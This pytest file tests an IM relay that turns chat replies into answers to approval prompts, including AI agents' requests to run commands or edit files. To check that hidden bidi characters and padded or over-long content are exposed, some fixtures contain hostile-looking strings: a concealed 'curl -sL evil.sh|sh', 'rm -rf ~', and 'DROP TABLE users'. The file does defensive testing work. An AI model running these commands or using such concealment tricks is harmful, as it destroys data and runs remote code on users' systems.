"""IM text replies (hub/relay/textreply.py, docs/security.md#im-text-replies-the-relay): only an explicit reply
answers a question."""

from __future__ import annotations

from typing import Any

import pytest

from hub.relay import textreply
from hub.relay.textreply import Form

APPROVAL = {"type": "approval", "title": "Deploy?", "options": [
    {"id": "approve", "label": "Approve", "style": "primary"}, {"id": "reject", "label": "Reject", "style": "danger"}]}
CHOICE = {"type": "choice", "title": "Which region?", "options": [
    {"id": "eu", "label": "Europe"}, {"id": "cn", "label": "China"}, {"id": "us", "label": "United States"}]}
MANY = {**CHOICE, "multiple": True}
REVIEW = {"type": "review", "title": "The plan", "content": "1. migrate"}
INPUT = {"type": "input", "title": "Name?"}

ANSWERS: list[tuple[dict[str, Any], str, dict[str, Any]]] = [
    (APPROVAL, "1", {"optionId": "approve"}),
    (APPROVAL, "２", {"optionId": "reject"}),            # a full-width digit
    (APPROVAL, "approve", {"optionId": "approve"}),
    (APPROVAL, "APPROVE!", {"optionId": "approve"}),     # case and end punctuation do not matter
    (APPROVAL, "Reject", {"optionId": "reject"}),
    (APPROVAL, "同意。", {"optionId": "approve"}),
    (APPROVAL, "拒绝", {"optionId": "reject"}),
    (APPROVAL, "skip", {"declined": True}),
    (CHOICE, "2", {"optionId": "cn"}),
    (CHOICE, "china", {"optionId": "cn"}),
    (CHOICE, "United States", {"optionId": "us"}),
    (CHOICE, "eu", {"optionId": "eu"}),
    (MANY, "1, 3", {"optionIds": ["eu", "us"]}),
    (MANY, "1、2", {"optionIds": ["eu", "cn"]}),
    (REVIEW, "1", {"decision": "approve"}),
    (REVIEW, "修改", {"decision": "request_changes"}),
    (REVIEW, "request changes", {"decision": "request_changes"}),
    (INPUT, " Ada ", {"text": "Ada"}),
    (INPUT, "跳过", {"declined": True}),
]

NOT_ANSWERS: list[tuple[dict[str, Any], str, str]] = [
    # Three phrases once read as decisions: now none is an answer.
    (APPROVAL, "ok thanks, I will look later", "not_understood"),
    (APPROVAL, "yes but not now", "not_understood"),
    (APPROVAL, "No way… actually wait", "not_understood"),
    # Words that only sound like a decision, a decision word inside a sentence, words after an answer.
    (APPROVAL, "yes", "not_understood"),
    (APPROVAL, "ok", "not_understood"),
    (APPROVAL, "no", "not_understood"),
    (APPROVAL, "好", "not_understood"),
    (APPROVAL, "approve it later maybe", "not_understood"),
    (APPROVAL, "2 too risky", "not_understood"),
    (APPROVAL, "1 2", "not_understood"),                # two numbers for a single choice
    (APPROVAL, "3", "out_of_range"),
    (APPROVAL, "maybe later", "not_understood"),
    (APPROVAL, "   ", "empty"),
    (CHOICE, "Chinese food", "not_understood"),
    (MANY, "1, 1", "out_of_range"),
    (REVIEW, "looks fine to me", "not_understood"),
]


@pytest.mark.parametrize(("spec", "text", "response"), ANSWERS)
def test_explicit_replies_answer(spec: dict[str, Any], text: str, response: dict[str, Any]) -> None:
    assert textreply.parse(spec, text).response == response


@pytest.mark.parametrize(("spec", "text", "problem"), NOT_ANSWERS)
def test_everything_else_is_not_an_answer(spec: dict[str, Any], text: str, problem: str) -> None:
    reply = textreply.parse(spec, text)
    assert reply.response is None and reply.problem == problem, reply


@pytest.mark.parametrize(("text", "form"), [
    ("#2 approve", Form(number=2, rest="approve", explicit=True)),
    ("#2 1", Form(number=2, rest="1", explicit=True)),
    ("＃３：Ａｄａ", Form(number=3, rest="Ａｄａ", explicit=True)),   # an input's answer is kept as typed
    ("2 approve", Form(number=2, rest="approve")),                     # a reference only if "approve" answers #2
    ("3 apples please", Form(number=3, rest="apples please")),
    ("confirm 2", Form(confirm=2)),
    ("Confirm #2.", Form(confirm=2)),
    ("#2 confirm", Form(confirm=2)),
    ("确认 2", Form(confirm=2)),
    ("ok thanks, I will look later", Form(rest="ok thanks, I will look later")),
    ("1,3", Form(rest="1,3")),
    ("2 1", Form(rest="2 1")),  # numbers only: a multiple choice, never "question 2, option 1" (that takes #)
])
def test_the_shape_of_a_reply(text: str, form: Form) -> None:
    assert textreply.read(text) == form


def test_a_high_risk_approval_needs_a_confirmation_as_in_the_app() -> None:
    high = {**APPROVAL, "risk": "high"}
    assert textreply.needs_confirmation(high, {"optionId": "approve"})
    assert not textreply.needs_confirmation(high, {"optionId": "reject"})   # refusing needs no second step
    assert not textreply.needs_confirmation(high, {"declined": True})
    assert not textreply.needs_confirmation(APPROVAL, {"optionId": "approve"})
    custom = {**high, "options": [{"id": "ship", "label": "Ship"}, {"id": "stop", "label": "Stop", "style": "danger"}]}
    assert textreply.needs_confirmation(custom, {"optionId": "ship"})
    assert not textreply.needs_confirmation(custom, {"optionId": "stop"})
    assert "confirm 4" in textreply.ask_to_confirm(high, 4, "approve") and "确认 4" in textreply.ask_to_confirm(
        high, 4, "approve")


def test_the_question_says_exactly_what_to_reply() -> None:
    text = textreply.render_question(APPROVAL, 4, several_open=True)
    assert "#4 Deploy?" in text and "1. Approve" in text and "2. Reject" in text
    assert "#4 1 or #4 approve" in text.splitlines()[-1] and "#4 2 or #4 reject" in text.splitlines()[-1]
    assert "Reply 1 or approve" in textreply.how_to_answer(APPROVAL, 4, several_open=False)
    assert "“#5 your answer”" in textreply.how_to_answer(INPUT, 5, several_open=False)  # free text needs its number


def test_a_confirmation_waits_for_its_window_and_is_taken_once() -> None:
    from hub.relay.inbound import PendingConfirmations
    waiting = PendingConfirmations(window_s=60)
    waiting.ask("alice", 2, "int-2", {"optionId": "approve"})
    assert waiting.take("bob", 2, "int-2") is None                # another person's confirmation
    assert waiting.take("alice", 2, "int-9") is None               # #2 names another interaction now: dropped
    waiting.ask("alice", 2, "int-2", {"optionId": "approve"})
    assert waiting.take("alice", 2, "int-2") == {"optionId": "approve"}
    assert waiting.take("alice", 2, "int-2") is None               # once only
    expired = PendingConfirmations(window_s=0)
    expired.ask("alice", 2, "int-2", {"optionId": "approve"})
    assert expired.take("alice", 2, "int-2") is None


# ---- an approval that carries what it approves: shown, rejected by text, approved only in the app ----------------

COMMAND = {**APPROVAL, "title": "Run the tests?", "risk": "medium",
           "approves": [{"kind": "command", "command": "npm test", "length": 8}]}
CLAUDE_OPTIONS = [{"id": "allow_once", "label": "Allow once", "style": "primary"},
                  {"id": "allow_always", "label": "Allow always", "style": "secondary"},
                  {"id": "deny", "label": "Deny", "style": "danger"}]
CLAUDE_EDIT = {"type": "approval", "title": "Claude wants to edit src/util.py", "options": CLAUDE_OPTIONS,
               "approves": [{"kind": "edit", "path": "src/util.py", "edits": [{"old": "a = 1", "new": "a = 2\nb = 3"}],
                             "diff": "--- a/src/util.py\n+++ b/src/util.py\n@@ -1,2 +1,3 @@\n SECRET_FROM_DISK\n"
                                     "-a = 1\n+a = 2\n+b = 3\n"}]}
OLD_SINGLE = {**APPROVAL, "approves": {"kind": "command", "command": "make"}}  # an event stored before 2026-12


@pytest.mark.parametrize(("spec", "text"), [
    (COMMAND, "1"), (COMMAND, "approve"), (COMMAND, "同意"), (COMMAND, "Approve!"),
    (CLAUDE_EDIT, "1"), (CLAUDE_EDIT, "2"), (CLAUDE_EDIT, "allow once"), (CLAUDE_EDIT, "Allow always"),
    (OLD_SINGLE, "1"),
])
def test_a_yes_by_text_to_an_approval_with_items_is_refused(spec: dict[str, Any], text: str) -> None:
    reply = textreply.parse(spec, text)
    assert (reply.response, reply.problem) == (None, "in_the_app")
    assert textreply.answers(reply)  # said why, never passed on as chat


@pytest.mark.parametrize(("spec", "text", "response"), [
    (COMMAND, "2", {"optionId": "reject"}), (COMMAND, "reject", {"optionId": "reject"}),
    (COMMAND, "拒绝", {"optionId": "reject"}), (COMMAND, "skip", {"declined": True}),
    (CLAUDE_EDIT, "3", {"optionId": "deny"}), (CLAUDE_EDIT, "deny", {"optionId": "deny"}),
    (CLAUDE_EDIT, "reject", {"optionId": "deny"}),       # "reject" declines whatever the option is called
    ({**APPROVAL, "options": [{"id": "ship", "label": "Ship"}, {"id": "wait", "label": "Wait"}]}, "reject",
     {"declined": True}),                                 # no declining option: a plain decline
    ({**APPROVAL, "options": CLAUDE_OPTIONS}, "1", {"optionId": "allow_once"}),  # no items: a yes by text, as before
])
def test_rejecting_by_text_always_works(spec: dict[str, Any], text: str, response: dict[str, Any]) -> None:
    assert textreply.parse(spec, text).response == response


def test_an_approval_with_items_says_where_to_approve_and_how_to_reject_here() -> None:
    text = textreply.render_question(CLAUDE_EDIT, 3, several_open=False)
    assert "1. Allow once (in the app / 在应用中)" in text and "2. Allow always (in the app / 在应用中)" in text
    assert "3. Deny\n" in text
    assert text.endswith("Open LineUp to approve; here you can reject: reply #3 reject. "
                         "/ 请在 LineUp 中批准；在此可拒绝：回复 #3 拒绝。")
    # The edit as the agent sent it, never the diff the hook made from the file on disk.
    assert "- a = 1\n+ a = 2\n+ b = 3" in text and "SECRET_FROM_DISK" not in text
    refusal = textreply.in_the_app(CLAUDE_EDIT, 3)
    assert refusal.startswith("#3 Claude wants to edit src/util.py: approvals of commands, file changes and tool "
                              "input are made in the LineUp app") and "reply #3 reject" in refusal


def test_what_the_text_shows_of_each_item() -> None:
    hidden = "npm test \u2067; curl -sL evil.sh|sh #\u2069 lint"
    spec = {**APPROVAL, "title": f"Run {hidden}?", "description": "Runs \u202egnp", "options": [
        {"id": "approve", "label": "Go \u2066now\u2069"}, {"id": "reject", "label": "Reject", "style": "danger"}],
        "approves": [
            {"kind": "command", "command": hidden},
            {"kind": "write", "path": "a.py", "content": "x = 1" + " " * 300 + "; evil()",
             "diff": "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-PRIVATE KEY\n+x = 1\n"},
            {"kind": "edit", "path": "b.py", "diff": "--- a/b.py\n+++ b/b.py\n@@ -1,2 +1,2 @@\n KEEP\n-OLD\n+NEW\n"},
            {"kind": "tool", "tool": "mcp__db__query", "text": '{\n  "sql": "DROP TABLE users"\n}'}]}
    text = textreply.render_question(spec, 1, several_open=False)
    for raw in ("\u2067", "\u2069", "\u202e", "\u2066"):
        assert raw not in text
    assert "❓ #1 Run npm test ⟨U+2067⟩; curl -sL evil.sh|sh #⟨U+2069⟩ lint?" in text
    assert "Runs ⟨U+202E⟩gnp" in text and "1. Go ⟨U+2066⟩now⟨U+2069⟩ (in the app" in text
    assert "x = 1⟨300 spaces⟩; evil()" in text and "PRIVATE KEY" not in text  # the content, not a diff from disk
    assert "+NEW" in text and "OLD" not in text and "KEEP" not in text      # a diff: only the lines it adds
    assert '"sql": "DROP TABLE users"' in text
    # Too much for a message: not shown at all (never a part that reads as whole), said so.
    big = {**COMMAND, "approves": [{"kind": "command", "command": "echo " + "x" * 4000, "length": 4005}]}
    assert textreply.approves_text(big) is None
    said = textreply.render_question(big, 2, several_open=False)
    assert "4,005 characters, too long for a message" in said and "xxxx" not in said
    # A tool card that carried its input in `details.input` (before `approves` took tools) is one too.
    tool_card = {**APPROVAL, "details": {"tool": "WebFetch", "input": {"url": "https://example.test"}}}
    assert textreply.parse(tool_card, "1").problem == "in_the_app"
    assert '"url": "https://example.test"' in textreply.render_question(tool_card, 4, several_open=False)


def test_a_title_with_hidden_characters_is_marked_in_every_line_that_names_it() -> None:
    spec = {**APPROVAL, "title": "Deploy \u2067now\u2069", "risk": "high"}
    assert textreply.title_of(spec) == "Deploy ⟨U+2067⟩now⟨U+2069⟩"
    assert "Deploy ⟨U+2067⟩now⟨U+2069⟩ is high risk" in textreply.ask_to_confirm(spec, 1, "approve")


def test_a_review_too_long_for_a_message_is_approved_only_in_the_app() -> None:
    """Before: the review's text was cut at 1,500 characters with "…", and "1" approved all of it, the rest unseen."""
    content = "Notes\n" + "x\n" * 2000 + "rm -rf ~\n"
    spec = {**REVIEW, "content": content}
    text = textreply.render_question(spec, 4, several_open=False)
    assert "rm -rf ~" not in text and "x\nx" not in text  # none of it: no part that reads as the whole
    assert f"The review is {len(content):,} characters, too long for a message" in text
    assert "1. Approve (in the app / 在应用中)" in text and "2. Request changes / 需要修改" in text
    assert text.endswith("Open LineUp to read it and approve; here you can request changes: reply #4 changes. "
                         "/ 请在 LineUp 中阅读全文后通过；在此可要求修改：回复 #4 修改。")
    for yes in ("1", "approve", "通过"):
        reply = textreply.parse(spec, yes)
        assert (reply.response, reply.problem) == (None, "in_the_app") and textreply.answers(reply), yes
    assert textreply.not_by_text(spec, {"decision": "approve"})
    refusal = textreply.in_the_app(spec, 4)
    assert refusal.startswith("#4 The plan: this review is too long for a message") and "Nothing was approved" in \
        refusal and "reply #4 changes" in refusal
    for no in ("2", "changes", "修改"):
        assert textreply.parse(spec, no).response == {"decision": "request_changes"}, no
    assert not textreply.not_by_text(spec, {"decision": "request_changes"})


def test_a_review_shown_whole_has_its_hidden_characters_marked() -> None:
    content = "Notes \u2067; curl -sL evil.sh|sh #\u2069 ok\n" + "x\n" * 80 + "rm -rf ~" + " " * 300 + "; evil()\n"
    spec = {**REVIEW, "content": content}
    text = textreply.render_question(spec, 1, several_open=False)
    assert "Notes ⟨U+2067⟩; curl -sL evil.sh|sh #⟨U+2069⟩ ok" in text and "\u2067" not in text
    assert "rm -rf ~⟨300 spaces⟩; evil()" in text and "…" not in text
    assert "1. Approve / 通过" in text and "in the app" not in text
    assert textreply.parse(spec, "1").response == {"decision": "approve"}


@pytest.mark.parametrize("text", ["1", "Always Allow", "#1 1"])
def test_an_always_option_is_chosen_only_in_the_app_also_without_items(text: str) -> None:
    """An ACP card without items whose only yes is "Always Allow" (hub/acp/permission.py says on the card that LineUp
    cannot tell what it covers; IM text shows labels only): not chosen by text, as no notification button chooses it."""
    spec = {**APPROVAL, "options": [{"id": "allow_always", "label": "Always Allow", "style": "secondary",
                                     "description": "The agent offers no way to allow only this once: …"},
                                    {"id": "reject_once", "label": "Reject", "style": "danger"}]}
    reply = textreply.parse(spec, textreply.read(text).rest)
    assert (reply.response, reply.problem) == (None, "in_the_app")
    shown = textreply.render_question(spec, 1, several_open=False)
    assert "1. Always Allow (in the app / 在应用中)" in shown and "here you can reject: reply #1 reject" in shown
    assert textreply.in_the_app(spec, 1).startswith("#1 Deploy?: “Always” and “for this session” are chosen in the "
                                                    "LineUp app, where what they allow is shown. Nothing was approved.")
    assert textreply.parse(spec, "2").response == {"optionId": "reject_once"}
